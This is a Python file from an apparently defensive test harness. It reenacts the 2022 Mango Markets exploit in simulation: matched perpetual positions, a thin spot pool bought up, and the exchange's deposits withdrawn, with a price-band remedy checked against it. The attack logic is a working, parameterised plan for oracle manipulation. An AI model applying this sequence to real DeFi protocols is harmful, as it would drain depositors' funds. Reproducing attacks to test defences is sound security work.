"""Mango, 11 October 2022: a perpetual's index is a thin spot market, moved to 24 times its price.

Two accounts take the two sides of a large position, so that it costs nothing to hold; the spot
market is bought up for a few million; the winning side takes out all the exchange has.
"""

from __future__ import annotations

from collections.abc import Generator
from dataclasses import dataclass

from harness.attacks.calls import all_of, swap
from harness.attacks.perps import SHARE_PRICE_USD, open_exchange
from harness.attacks.script import Attack, Check, Parameters
from harness.attacks.stage import Stage


@dataclass(frozen=True)
class Mango(Parameters):
    """Whole tokens; USD.

    size: of each side, MNGO
    start_usd, peak_usd: MNGO before, and where it is bought to
    spot_usd: what that costs
    margin_usd: of each of the two accounts
    exchange_usd: of everybody else in the exchange
    band_bps: how far the index may be from its average of an hour, when remedied
    """

    size: float = 483_000_000.0
    start_usd: float = 0.038
    peak_usd: float = 0.91
    spot_usd: float = 4_000_000.0
    margin_usd: float = 5_000_000.0
    exchange_usd: float = 116_000_000.0
    band_bps: int = 2_000


def play(stage: Stage, p: Mango) -> Generator[int | None, None, None]:
    """Opens both sides, buys spot, realises what the exchange can pay, and takes it."""
    usd, mngo = stage.token("USD", 1), stage.token("MNGO", p.start_usd)
    dollar = stage.feed("USD")
    # y0 (sqrt(p1 / p0) - 1) is what the pool takes from p0 to p1
    quote = round(p.spot_usd / ((p.peak_usd / p.start_usd) ** 0.5 - 1), 6)
    pool = stage.pool("MNGO", "USD", round(quote / p.start_usd, 6), quote, fee_pips=0)
    feed = stage.deploy("PoolSpotFeed", pool, mngo, dollar, 8, "MNGO spot")
    depositors = stage.actor("depositors", "victim", USD=p.exchange_usd)
    # half of the distance to the average is gone after an hour
    band = {"band_bps": p.band_bps, "band_decay_ray": int(0.5 ** (1 / 3_600) * 10**27)}
    perp = open_exchange(
        stage,
        "exchange",
        "USD",
        feed,
        provider=depositors,
        vault=p.exchange_usd,
        market=band if p.remedied else None,
    )
    attacker = stage.actor("attacker", USD=p.margin_usd + p.spot_usd)
    second = stage.actor("second-account", USD=p.margin_usd)
    keeper = stage.actor("keeper", "bystander")
    others = stage.actor("sellers", "bystander", MNGO=quote / p.start_usd * 2)
    router = stage.router
    for account in (attacker, second):
        stage.approve(account, ["USD"], perp, router)
    stage.approve(others, ["MNGO"], router)
    yield None

    stage.send("sell 483M", second, perp.deposit(second, p.margin_usd), perp.trade(second, -p.size))
    stage.send(
        "buy 483M", attacker, perp.deposit(attacker, p.margin_usd), perp.trade(attacker, p.size)
    )
    yield None
    bought = stage.send(
        "buy MNGO up in its spot market",
        attacker,
        swap(router, pool, usd, all_of(usd, attacker), attacker),
    )
    yield None
    peak = stage.spot("MNGO", "USD")
    stage.measure("peak_price_usd", peak)
    # as much as brings in what the exchange holds of others, a little over
    part = (p.exchange_usd + p.margin_usd) / (peak - p.start_usd) * 1.001
    taken = stage.send("close a part at the new price", attacker, perp.trade(attacker, -part))
    yield None
    if bought.done and taken.done:
        stage.send("withdraw all there is", attacker, perp.withdraw(attacker, all_of(usd, perp)))
        stage.send("have the other side taken over", keeper, perp.liquidate(second))
        yield None
    stage.send(
        "sell MNGO until it is where it was",
        others,
        swap(router, pool, mngo, stage.units("MNGO", _back(stage, p)), others),
    )
    yield None


def _back(stage: Stage, p: Mango) -> float:
    """MNGO that brings the pool back to the price before."""
    reserve = stage.read(stage.pools["MNGO/USD"], "getReserves")[0] / 10**18
    more: float = reserve * ((stage.spot("MNGO", "USD") / p.start_usd) ** 0.5 - 1)
    return round(more, 6)


ATTACK = Attack(
    name="mark-manipulation",
    title="the thin spot market that prices a perpetual is bought up",
    sources=("Mango Markets, 11 October 2022",),
    play=play,
    parameters=Mango(),
    remedy="a band around the index's average, outside which nothing is traded or withdrawn",
    stopped_by="PriceOutOfBand",
    protocol=(Check("profit", at_most=0), Check("loss", at_most=SHARE_PRICE_USD)),
    goal=lambda p: Check("profit", at_least=p.exchange_usd * 0.9),
    reported="$116M taken, the spot market moved for about $4M",
)
